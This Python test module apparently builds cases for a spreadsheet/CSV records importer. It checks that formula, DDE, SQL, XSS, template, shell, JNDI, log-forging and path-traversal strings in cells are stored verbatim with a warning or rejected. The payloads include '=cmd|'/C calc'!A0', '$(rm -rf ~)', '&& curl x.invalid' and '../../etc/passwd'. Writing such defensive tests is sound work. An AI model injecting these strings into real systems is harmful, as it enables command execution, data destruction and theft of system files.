"""Items 124 to 139: cells that mean to be run by whoever reads them. They are text: stored verbatim, with a word."""

from collections.abc import Sequence

from tests.corpus.cases import Case, Dice, Ledger, Line, item, raw_of
from tests.corpus.writers import book_parts, package, sheet_xml

SECTION = "injection"
_ACTIVE = ("text.active_content",)


def _stored(
    rng: Dice, text: str, rules: Sequence[str] = _ACTIVE, *, kept_text: str | None = None, has_value: bool = True
) -> Case:
    """A cell with such a text: read verbatim, the row kept."""
    ledger, name = Ledger(rng), rng.choice(("native", "native", "residence"))
    row = ledger.pick()
    ledger.put(row, **{name: text})
    column = {"native": "native_place_text", "residence": "permanent_residence_text"}[name]
    values = {**ledger.people[row].values(name), column: (kept_text or text) if has_value else None}
    line = Line(True, tuple(rules), values, {raw_of(name): text})
    return ledger.case(ledger.clean(row) | {2 + row: line})


def _formula(number: int, title: str, texts: Sequence[str]) -> None:
    item(number, title, "W", SECTION)(lambda rng: _stored(rng, rng.choice(texts)))


_formula(124, "Formula with =", ("=1+1", "=cmd|'/C calc'!A0", "=SUM(A1:A9)", "=2*3", '=IF(1,"a","b")', "=A1"))
_formula(125, "Formula with +", ("+1+1", "+cmd|'/C calc'!A0", "+SUM(1,2)", "+A1*2"))
_formula(126, "Formula with -", ("-1+1", "-cmd|'/C calc'!A0", "-SUM(1,2)", "-2+3+cmd|'/C calc'!A0"))
_formula(127, "Formula with @", ("@SUM(1+1)", "@cmd|'/C calc'!A0", "@A1"))
_formula(130, "Link formula", (
    '=HYPERLINK("http://x.invalid/?a="&A1,"Bấm")', '=hyperlink("http://x.invalid")', '=HYPERLINK("file://x/y","z")',
))  # fmt: skip
_formula(131, "Web formula", (
    '=WEBSERVICE("http://x.invalid/"&A1)', '=IMPORTXML("http://x.invalid","//a")', '=IMAGE("http://x.invalid/a.png")',
    '=DDE("cmd";"/C calc";"x")',
))  # fmt: skip
_formula(132, "SQL", (
    "'; DROP TABLE records; --", "x' OR '1'='1", "'; DELETE FROM persons WHERE 1=1;--", "1; drop table persons",
    "' UNION SELECT * FROM users --",
))  # fmt: skip
_formula(134, "Script and broken-out attribute", (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)",
    "' onmouseover='alert(1)", "<a href=x>y</a>",
))  # fmt: skip
_formula(135, "Template braces", ("{{7*7}}", "${7*7}", "{% raw %}x", "#{7*7}", "<%= 7*7 %>", "{{ config }}"))
_formula(137, "Shell, format and lookup strings", (
    "$(rm -rf ~)", "`id`", "; rm -rf /", "%s%s%s%n", "${jndi:ldap://x.invalid/a}", "| cat x", "&& curl x.invalid",
))  # fmt: skip


def _behind(rng: Dice, blank: str) -> Case:
    """A formula behind a tab or carriage return; the blank itself is no content and may go."""
    ledger = Ledger(rng)
    row, text = ledger.pick(), rng.choice(("=1+1", "+1+1", "@SUM(1)", "-1+1", "=cmd|'/C calc'!A0"))
    ledger.put(row, native=blank + text)
    values = {**ledger.people[row].values("native"), "native_place_text": text}
    lines = ledger.clean(row) | {2 + row: Line(True, _ACTIVE, values, {"native_place_raw": text})}
    content = ledger.xlsx()
    if blank == "\r":
        at = ledger.at("native")
        cell = f'<c r="{{r}}" t="inlineStr"><is><t xml:space="preserve">&#13;{text.replace("&", "&amp;")}</t></is></c>'
        xml = sheet_xml([ledger.headings, *ledger.rows], cells={(1 + row, at): cell})
        content = package(book_parts({"Sheet1": xml}))
    elif rng.random() < 0.5:
        return Case(ledger.csv().encode(), lines=lines, secrets=ledger.secrets)
    return Case(content, "so.xlsx", lines, secrets=ledger.secrets)


item(128, "Formula behind a tab", "W", SECTION)(lambda rng: _behind(rng, "\t"))
item(129, "Formula behind a carriage return", "W", SECTION)(lambda rng: _behind(rng, "\r"))


@item(133, "End marks of COPY", "W", SECTION)
def _(rng: Dice) -> Case:
    """Kept as written; what databases write for "no value" is no place."""
    return _stored(rng, rng.choice(("\\.", "\\N", "\\N")), has_value=False)


@item(136, "Forged log lines and escape codes", "W", SECTION)
def _(rng: Dice) -> Case:
    """Escape codes of a terminal; a line break with what looks like a line of a log."""
    ledger = Ledger(rng)
    row, text = ledger.pick(), rng.choice((
        "\x1b[31mHà Nội\x1b[0m", "\x1b]0;x\x07Hà Nội", "Hà Nội\n2024-06-01 INFO batch loaded", "Hà Nội\x1b[2J",
        "Hà Nội\r\nERROR admin logged in", "\x1b[8mẩn\x1b[0m",
    ))  # fmt: skip
    ledger.put(row, native=text)
    later = sum(1 for c in text.replace("\r\n", "\n") if c == "\n")
    values = ledger.people[row].values("native")
    lines: dict[int | tuple[str, int], Line] = {
        2 + i + (later if i > row else 0): ledger.good(i) for i in range(len(ledger.rows)) if i != row
    }
    return Case(ledger.csv().encode(), lines=lines | {2 + row: Line(True, (), values)}, secrets=ledger.secrets,
                letter="A/W" if later else "W")  # fmt: skip


@item(138, "Path in a key field", "R", SECTION)
def _(rng: Dice) -> Case:
    ledger, name = Ledger(rng), rng.choice(("household", "old_id", "personal"))
    row = ledger.pick()
    ledger.put(row, **{name: rng.choice((
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\temp\\x", "%2e%2e%2fetc", "file:///etc/x",
        "~/x", "\\\\server\\share",
    ))})  # fmt: skip
    return ledger.case(ledger.clean(row) | {2 + row: Line(False, ("text.path_in_key",))})


@item(139, "NUL byte", "R", SECTION)
def _(rng: Dice) -> Case:
    ledger, name = Ledger(rng), rng.choice(("name", "residence", "native"))
    row = ledger.pick()
    text = ledger.rows[row][ledger.at(name)]
    at = rng.randrange(len(text))
    ledger.put(row, **{name: text[:at] + "\0" + text[at:]})
    lines = ledger.clean(row) | {2 + row: Line(False, ("row.bad_characters",))}
    return Case(ledger.csv(rng.choice(",;")).encode(), lines=lines, secrets=ledger.secrets)
